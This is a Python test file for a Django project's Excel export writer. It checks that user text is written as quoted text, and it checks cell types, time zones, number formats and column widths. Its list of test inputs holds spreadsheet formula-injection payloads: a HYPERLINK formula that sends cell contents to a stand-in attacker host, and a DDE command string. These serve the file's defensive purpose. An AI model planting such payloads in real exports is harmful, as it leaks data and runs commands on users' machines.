"""The shared Excel writer, read back as Excel would read it."""

from datetime import UTC, datetime
from io import BytesIO
from zipfile import ZipFile

from django.test import SimpleTestCase, override_settings
from openpyxl import load_workbook

from gridgov.lib import xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def write(rows, columns=None, title="Cases"):
    columns = columns or [xlsx.Column("Text"), xlsx.Column("Amount", xlsx.DECIMAL)]
    return xlsx.workbook([xlsx.Sheet(title, columns, rows)])


def read(content):
    return load_workbook(BytesIO(content)).active


class FormulaInjectionTests(SimpleTestCase):
    def test_text_that_excel_would_run_is_written_as_quoted_text_unchanged(self):
        sheet = read(write([[text, 1.5] for text in HOSTILE]))
        for row, text in enumerate(HOSTILE, start=2):
            cell = sheet.cell(row, 1)
            # An XML parser reads a bare CR back as a line feed.
            self.assertEqual(cell.value, text.replace("\r", "\n"))
            self.assertEqual(cell.data_type, "s")
            self.assertTrue(cell.quotePrefix, text)

    def test_the_file_holds_no_formula_at_all(self):
        content = write([[text, None] for text in HOSTILE])
        xml = ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", xml)
        self.assertNotIn("<f ", xml)

    def test_numbers_stay_numbers_and_plain_text_stays_plain(self):
        sheet = read(write([["道路积水", -3.5], ["#N/A", 2]]))
        self.assertEqual((sheet["B2"].value, sheet["B2"].data_type), (-3.5, "n"))
        self.assertEqual(sheet["B2"].number_format, xlsx.DECIMAL)
        self.assertFalse(sheet["A2"].quotePrefix)
        # Not Excel's error value: the text someone typed.
        self.assertEqual((sheet["A3"].value, sheet["A3"].data_type), ("#N/A", "s"))

    def test_control_characters_and_overlong_text_do_not_break_the_file(self):
        sheet = read(write([["坑\x01洼\x0b", None], ["长" * 40_000, None]]))
        self.assertEqual(sheet["A2"].value, "坑洼")
        self.assertEqual(len(sheet["A3"].value), xlsx.MAX_CELL_TEXT)

    def test_headers_and_sheet_names_are_protected_too(self):
        content = write([], [xlsx.Column("=1+1")], title="=a/b[c]:d*e?")
        book = load_workbook(BytesIO(content))
        self.assertEqual(book.sheetnames, ["=a_b_c__d_e_"])
        self.assertTrue(book.active["A1"].quotePrefix)


@override_settings(TIME_ZONE="Asia/Shanghai")
class LayoutTests(SimpleTestCase):
    def test_times_are_local_and_to_the_minute_as_pages_show_them(self):
        # 23:59:59.999999 in Shanghai: Excel would round it up to the next day's 00:00.
        deadline = datetime(2026, 3, 2, 15, 59, 59, 999999, tzinfo=UTC)
        columns = [xlsx.Column("Close by", xlsx.DATETIME)]
        cell = read(write([[deadline]], columns))["A2"]
        self.assertEqual(cell.value, datetime(2026, 3, 2, 23, 59))
        self.assertEqual(cell.number_format, xlsx.DATETIME)

    def test_rates_are_fractions_shown_as_percentages(self):
        cell = read(write([[0.8765]], [xlsx.Column("Rate", xlsx.PERCENT)]))["A2"]
        self.assertEqual((cell.value, cell.number_format), (0.8765, "0.0%"))

    def test_a_frozen_bold_header_with_a_filter_over_every_row(self):
        # Past the rows sampled for the widths, so the streamed rows count too.
        count = xlsx.SAMPLE_ROWS + 7
        sheet = read(write([f"row {n}", n] for n in range(count)))
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertTrue(sheet["A1"].font.bold)
        self.assertEqual(sheet.auto_filter.ref, f"A1:B{count + 1}")
        self.assertEqual(sheet.max_row, count + 1)

    def test_columns_fit_their_content_with_cjk_counting_double(self):
        columns = [xlsx.Column("A"), xlsx.Column("B"), xlsx.Column("C", max_width=20)]
        sheet = read(write([["abcdefghij", "一二三四五六七八九十", "很长" * 50]], columns))
        latin = sheet.column_dimensions["A"].width
        cjk = sheet.column_dimensions["B"].width
        self.assertGreaterEqual(latin, 10)
        self.assertGreaterEqual(cjk, 20)
        self.assertLess(latin, cjk)
        self.assertEqual(sheet.column_dimensions["C"].width, 20)
